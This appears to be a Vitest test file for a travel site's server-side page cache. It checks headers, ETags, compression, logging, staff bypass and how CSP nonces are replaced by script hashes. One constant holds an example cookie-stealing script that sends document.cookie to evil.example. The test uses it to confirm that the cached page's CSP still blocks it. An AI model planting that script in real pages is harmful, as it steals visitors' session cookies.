import { createHash } from 'node:crypto'
import http from 'node:http'
import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import { eq } from 'drizzle-orm'
import type { RequestHandler } from 'express'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { travelPackages } from '#app/db/schema.server'
import { STAFF_ACCOUNT_HEADER } from '#app/lib/staff-account'
import { createPackage } from '#tests/factories/catalogue'
import { adminRequest, signIn } from '#tests/setup/admin-session'
import { startTestServer, type TestServer } from '#tests/setup/test-server'

// Issue 34, decision 59: what the page cache holds is answered before the middleware runs, as the
// middleware would have answered it.

let server: TestServer
let cookie: string
let packageId: number
const SLUG = 'hot-path-lisbon'
const API = `/api/travel-packages/${SLUG}`

/** React Router's kind of inline script, given the answer's nonce; and one a stored HTML section slipped in. */
const HYDRATION = 'window.__reactRouterContext = {"url":"/scripted"};'
const INJECTED = 'fetch("https://evil.example/?" + document.cookie)'

/** Stands in for React Router: a page written in pieces, as a streamed render is; `/scripted` with scripts. */
const streamedPage: RequestHandler = (req, res) => {
  res.type('html')
  res.write('<!doctype html><main>')
  if (req.path === '/scripted') {
    res.write(`<script nonce="${res.locals.cspNonce}">${HYDRATION}</script><script>${INJECTED}</script>`)
  }
  res.end(`${req.path}</main>`)
}

/** The server's log lines, as parsed JSON. */
const logLines: Array<Record<string, unknown>> = []

beforeAll(async () => {
  // Over HTTPS as far as the site knows (PUBLIC_URL), so every answer carries HSTS, kept or not.
  server = await startTestServer({
    environment: { PUBLIC_URL: 'https://www.example.com' },
    pages: () => streamedPage,
    logTo: { write: (line: string) => logLines.push(JSON.parse(line)) },
  })
  cookie = await signIn(server)
  packageId = (await createPackage(server.db, { slug: SLUG, title: 'Lisbon by Tram' })).id
})

afterAll(() => server.close())

type Answer = { status: number; headers: http.IncomingHttpHeaders; body: Buffer }

/** One request to `target` with exactly these headers (fetch would add Accept-Encoding and decompress). */
function ask(target: TestServer, path: string, headers: Record<string, string> = {}, method = 'GET') {
  return new Promise<Answer>((resolve, reject) => {
    http
      .request(target.url(path), { method, headers }, (response) => {
        const chunks: Buffer[] = []
        response.on('data', (chunk: Buffer) => chunks.push(chunk))
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            body: Buffer.concat(chunks),
          }),
        )
      })
      .once('error', reject)
      .end()
  })
}

const get = (path: string, headers: Record<string, string> = {}, method = 'GET') =>
  ask(server, path, headers, method)

/** The headers that describe the content: without the date, and without how the body was framed. */
const contentHeaders = ({ headers }: Answer) => {
  const { date, 'transfer-encoding': _chunked, 'content-length': _length, ...rest } = headers
  expect(date).toBeDefined()
  return rest
}

/**
 * A fresh page's headers as its kept copy carries them (decision 62): the fresh answer's nonce is its
 * visitor's, so no shared cache keeps that answer, and the copy everyone gets names no nonce.
 */
const keptFormOf = (fresh: Answer) => {
  const headers = contentHeaders(fresh)
  expect(headers['cache-control']).toBe('private, max-age=0, must-revalidate')
  expect(headers['content-security-policy']).toMatch(/ 'nonce-[^']+'/)
  return {
    ...headers,
    'cache-control': 'public, max-age=0, must-revalidate, s-maxage=30',
    'content-security-policy': String(headers['content-security-policy']).replace(/ 'nonce-[^']+'/, ''),
  }
}

/** Makes one request and says whether the hot path of `target` answered it. */
async function answeredAtOnce(request: () => Promise<Answer>, target = server): Promise<[Answer, boolean]> {
  const before = target.answeredAtOnce()
  const answer = await request()
  return [answer, target.answeredAtOnce() > before]
}

const titleOf = (answer: Answer) => (JSON.parse(answer.body.toString()) as { title: string }).title

const retitleInDatabase = (title: string) =>
  server.db.update(travelPackages).set({ title }).where(eq(travelPackages.id, packageId))

describe('a kept answer, given before the middleware runs', () => {
  it('is the package API’s answer with the same headers, its length said up front', async () => {
    const [fresh, freshAtOnce] = await answeredAtOnce(() => get(API))
    expect(fresh.status).toBe(200)
    expect(freshAtOnce).toBe(false)
    const [kept, keptAtOnce] = await answeredAtOnce(() => get(API))
    expect(keptAtOnce).toBe(true)
    expect(kept.status).toBe(200)
    expect(kept.body.equals(fresh.body)).toBe(true)
    expect(contentHeaders(kept)).toEqual(contentHeaders(fresh))
    expect(kept.headers['content-length']).toBe(String(fresh.body.length))
    // The security headers among them, HSTS included (decided per request, never kept).
    expect(kept.headers['content-security-policy']).toMatch(/script-src 'self' 'nonce-/)
    expect(kept.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains')
    expect(kept.headers['x-content-type-options']).toBe('nosniff')
    expect(kept.headers['cache-control']).toBe('public, max-age=0, must-revalidate, s-maxage=30')
  })

  it('is a page’s answer with the same headers, in one piece where the render was streamed', async () => {
    const [fresh, freshAtOnce] = await answeredAtOnce(() => get('/lisbon-guide'))
    expect(freshAtOnce).toBe(false)
    expect(fresh.headers['transfer-encoding']).toBe('chunked')
    const [kept, keptAtOnce] = await answeredAtOnce(() => get('/lisbon-guide'))
    expect(keptAtOnce).toBe(true)
    expect(kept.body.toString()).toBe('<!doctype html><main>/lisbon-guide</main>')
    // A rendered page comes with no ETag; the kept one has one, for a browser to revalidate against.
    const { etag, ...others } = contentHeaders(kept)
    expect(etag).toMatch(/^W\/".+"$/)
    expect(others).toEqual(keptFormOf(fresh))
    expect(kept.headers['transfer-encoding']).toBeUndefined()
    expect(kept.headers['content-length']).toBe(String(kept.body.length))
  })

  it('is written to the request log as any other request is, numbered in the same sequence', async () => {
    await get('/api/airports')
    const [, atOnce] = await answeredAtOnce(() => get('/api/airports?utm_source=mail'))
    expect(atOnce).toBe(false)
    expect((await answeredAtOnce(() => get('/api/airports')))[1]).toBe(true)
    const lines = () => logLines.filter((line) => (line.req as { path?: string })?.path === '/api/airports')
    await expect.poll(() => lines().length).toBe(3)
    const [first, longWay, atOnceLine] = lines()
    for (const line of [first, longWay, atOnceLine]) {
      expect(Object.keys(line ?? {})).toEqual(['level', 'time', 'reqId', 'req', 'res', 'responseTime', 'msg'])
      expect(line).toMatchObject({ level: 30, res: { status: 200 }, msg: 'request completed' })
    }
    expect(Number(atOnceLine?.reqId)).toBeGreaterThan(Number(longWay?.reqId))
  })

  it('answers HEAD with GET’s headers and no body', async () => {
    const full = await get(API)
    const [head, atOnce] = await answeredAtOnce(() => get(API, {}, 'HEAD'))
    expect(atOnce).toBe(true)
    expect(head.status).toBe(200)
    expect(head.body.length).toBe(0)
    expect(contentHeaders(head)).toEqual(contentHeaders(full))
    expect(head.headers['content-length']).toBe(String(full.body.length))
  })

  it('answers a browser’s revalidation with 304 while the ETag still matches', async () => {
    const { headers } = await get(API)
    const etag = String(headers.etag)
    const [revalidated, atOnce] = await answeredAtOnce(() => get(API, { 'if-none-match': etag }))
    expect(atOnce).toBe(true)
    expect(revalidated.status).toBe(304)
    expect(revalidated.body.length).toBe(0)
    expect(revalidated.headers.etag).toBe(etag)
    expect((await get(API, { 'if-none-match': 'W/"something-else"' })).status).toBe(200)
  })

  it('sends brotli or gzip to a browser that takes it, the same bytes once decompressed', async () => {
    const plain = await get(API)
    const [brotli, atOnce] = await answeredAtOnce(() => get(API, { 'accept-encoding': 'br' }))
    expect(atOnce).toBe(true)
    expect(brotli.headers['content-encoding']).toBe('br')
    expect(brotli.headers.vary).toBe('Accept-Encoding')
    expect(brotli.headers['content-length']).toBe(String(brotli.body.length))
    expect(brotliDecompressSync(brotli.body).equals(plain.body)).toBe(true)
    const gzip = await get(API, { 'accept-encoding': 'gzip, deflate' })
    expect(gzip.headers['content-encoding']).toBe('gzip')
    expect(gunzipSync(gzip.body).equals(plain.body)).toBe(true)
  })

  it('reads only what the answer depends on: a parameter the API reads is its own answer, junk goes the long way', async () => {
    await get(`${API}?include=pricing`)
    expect((await answeredAtOnce(() => get(`${API}?include=pricing`)))[1]).toBe(true)
    // Dropped by the middleware first, then answered from the same memory.
    const [junk, atOnce] = await answeredAtOnce(() => get(`${API}?utm_source=mail`))
    expect(atOnce).toBe(false)
    expect(junk.status).toBe(200)
  })
})

describe('what the hot path leaves to the middleware', () => {
  it('never answers staff, who see the database as it is', async () => {
    await get(API)
    await retitleInDatabase('Lisbon Quietly')
    expect(titleOf(await get(API))).not.toBe('Lisbon Quietly')
    const [asStaff, atOnce] = await answeredAtOnce(() => get(API, { cookie }))
    expect(atOnce).toBe(false)
    expect(titleOf(asStaff)).toBe('Lisbon Quietly')
    expect(asStaff.headers['cache-control']).toBe('no-store')
    // A call from a back-office page whose session has ended goes to the API too, which asks for the password.
    expect((await answeredAtOnce(() => get(API, { [STAFF_ACCOUNT_HEADER]: '1' })))[1]).toBe(false)
  })

  it('answers the very next read after an admin write afresh, then keeps that', async () => {
    const saved = await adminRequest(server, cookie)('PUT', `/api/travel-packages/${packageId}`, {
      title: 'Lisbon by Night',
      duration: 3,
    })
    expect(saved.status).toBe(200)
    const [afterWrite, atOnce] = await answeredAtOnce(() => get(API))
    expect(atOnce).toBe(false)
    expect(titleOf(afterWrite)).toBe('Lisbon by Night')
    const [kept, keptAtOnce] = await answeredAtOnce(() => get(API))
    expect(keptAtOnce).toBe(true)
    expect(titleOf(kept)).toBe('Lisbon by Night')
  })

  it('leaves a malformed address to the middleware’s 400', async () => {
    await get(API)
    const [answer, atOnce] = await answeredAtOnce(() => get(API, { 'x-forwarded-host': 'a b' }))
    // A malformed X-Forwarded-Host is dropped there, and the read answered as any other.
    expect(atOnce).toBe(false)
    expect(answer.status).toBe(200)
  })

  it('never answers a write, nor an address nothing was kept for', async () => {
    expect((await answeredAtOnce(() => get('/api/travel-packages/no-such-trip')))[1]).toBe(false)
    expect((await answeredAtOnce(() => get('/api/travel-packages/no-such-trip')))[1]).toBe(false)
    const [post, atOnce] = await answeredAtOnce(() => get(API, {}, 'POST'))
    expect(atOnce).toBe(false)
    expect(post.status).toBeGreaterThanOrEqual(400)
  })
})

describe('the CSP nonce of a kept page (issue 38, finding 6)', () => {
  const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
  const nonceInHeader = (answer: Answer) =>
    /'nonce-([^']+)'/.exec(String(answer.headers['content-security-policy']))?.[1]
  const scriptSources = (answer: Answer) =>
    /script-src ([^;]*)/.exec(String(answer.headers['content-security-policy']))?.[1]?.split(' ')

  it('is never the same for two visitors: the kept copy lets its scripts in by their hash instead', async () => {
    const [fresh, freshAtOnce] = await answeredAtOnce(() => get('/scripted'))
    expect(freshAtOnce).toBe(false)
    const nonce = nonceInHeader(fresh)
    expect(nonce).toBeDefined()
    expect(fresh.body.toString()).toContain(`<script nonce="${nonce}">${HYDRATION}</script>`)
    // The first visitor's nonce is theirs: no CDN may keep that answer for the next.
    expect(fresh.headers['cache-control']).toBe('private, max-age=0, must-revalidate')

    const [hot, hotAtOnce] = await answeredAtOnce(() => get('/scripted'))
    // Through the middleware: its parameter is dropped, then the same copy is answered.
    const [longWay, longWayAtOnce] = await answeredAtOnce(() => get('/scripted?utm_source=mail'))
    const [brotli] = await answeredAtOnce(() => get('/scripted', { 'accept-encoding': 'br' }))
    expect([hotAtOnce, longWayAtOnce]).toEqual([true, false])
    for (const kept of [hot, longWay, brotli]) {
      expect(kept.headers['cache-control']).toBe('public, max-age=0, must-revalidate, s-maxage=30')
      expect(nonceInHeader(kept)).toBeUndefined()
      expect(scriptSources(kept)).toEqual(["'self'", sha256(HYDRATION), 'https://widgets.travelify.io'])
      // The injected script has no hash there: a browser refuses it, as it refused it without the nonce.
      expect(scriptSources(kept)).not.toContain(sha256(INJECTED))
    }
    for (const body of [hot.body, longWay.body, brotliDecompressSync(brotli.body)]) {
      expect(body.toString()).toBe(
        `<!doctype html><main><script>${HYDRATION}</script><script>${INJECTED}</script>/scripted</main>`,
      )
      expect(body.toString()).not.toContain(String(nonce))
    }
  })
})

describe('the scheme a proxy forwards, where pages take their address from the request', () => {
  /** Asks twice: the first answer is worked out, the second comes from memory with the same headers. */
  async function firstThenKept(target: TestServer, path: string, headers: Record<string, string>) {
    const [fresh, freshAtOnce] = await answeredAtOnce(() => ask(target, path, headers), target)
    const [kept, keptAtOnce] = await answeredAtOnce(() => ask(target, path, headers), target)
    expect([freshAtOnce, keptAtOnce]).toEqual([false, true])
    // But for the ETag a kept page gains.
    const { etag: _etag, ...keptHeaders } = contentHeaders(kept)
    expect(keptHeaders).toEqual(keptFormOf(fresh))
    return kept
  }

  it('is believed from a trusted proxy: HTTPS gets HSTS, and each scheme its own kept answer', async () => {
    const trusting = await startTestServer({
      environment: { TRUST_PROXY: 'loopback' },
      pages: () => streamedPage,
    })
    try {
      const overHttps = await firstThenKept(trusting, '/porto-guide', { 'x-forwarded-proto': 'https' })
      expect(overHttps.headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains')
      const overHttp = await firstThenKept(trusting, '/porto-guide', { 'x-forwarded-proto': 'http' })
      expect(overHttp.headers['strict-transport-security']).toBeUndefined()
    } finally {
      await trusting.close()
    }
  })

  it('is ignored from anyone else: no HSTS, and the plain answer kept for both', async () => {
    const untrusting = await startTestServer({
      environment: { TRUST_PROXY: '10.0.0.0/8' },
      pages: () => streamedPage,
    })
    try {
      await firstThenKept(untrusting, '/faro-guide', {})
      const [claimed, atOnce] = await answeredAtOnce(
        () => ask(untrusting, '/faro-guide', { 'x-forwarded-proto': 'https' }),
        untrusting,
      )
      expect(atOnce).toBe(true)
      expect(claimed.headers['strict-transport-security']).toBeUndefined()
    } finally {
      await untrusting.close()
    }
  })
})
